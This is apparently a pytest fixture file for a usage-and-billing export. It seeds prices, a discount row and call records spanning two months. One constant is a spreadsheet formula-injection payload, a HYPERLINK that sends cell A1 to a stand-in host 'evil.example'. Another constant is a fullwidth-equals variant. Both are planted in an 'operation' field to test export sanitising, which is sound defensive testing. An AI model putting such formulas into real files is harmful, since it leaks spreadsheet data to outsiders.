"""A published file with what an export must get right: discounts, two months, names of strangers, unknown prices."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from tests.warehouse.passes import Ledger
from tests.warehouse.records import chat, span
from tests.warehouse.seeds import price, seed_texts

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
DISCOUNT = (
    "adjustment,kind,tenant,provider,model,unit,context,region,effective_from,effective_to,factor,"
    "price,per,currency,reference,note\n"
    "rebate,discount,acme-corp,acme,,,,,2026-01-01T00:00:00Z,,0.777777777,,,,contract-7,\n"
)
WIDE_FORMULA = "\N{FULLWIDTH EQUALS SIGN}1+1"
MARCH = datetime(2026, 3, 31, 23, 59, 59, tzinfo=UTC)
APRIL = datetime(2026, 4, 1, tzinfo=UTC)


@pytest.fixture(scope="session")
def published_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    seeds = seed_texts(
        price("input", "3"),
        price("output", "15.123456"),
        price("cache_read", "0"),
        price("web_search", "10"),
    )
    ledger = Ledger(tmp_path_factory.mktemp("exported") / "home", seeds | {"adjustments.csv": DISCOUNT})
    ledger.land(
        "calls.jsonl",
        [
            span(1, ended=MARCH, usage=chat(1000, 501, cached=200, reasoning=7)),
            span(2, ended=MARCH, usage=chat(1001, 77)),
            span(3, ended=APRIL, usage=chat(13, 5)),
            span(4, ended=APRIL, tenant="globex", operation=FORMULA, usage=chat(999_999, 3)),
            span(5, ended=APRIL, tenant="globex", response_model="in-house", usage=chat(70, 7)),
            span(6, ended=APRIL, tenant="globex", operation=WIDE_FORMULA, usage_status="missing"),
        ],
    )
    ledger.run()
    return ledger.settings.home.published_file
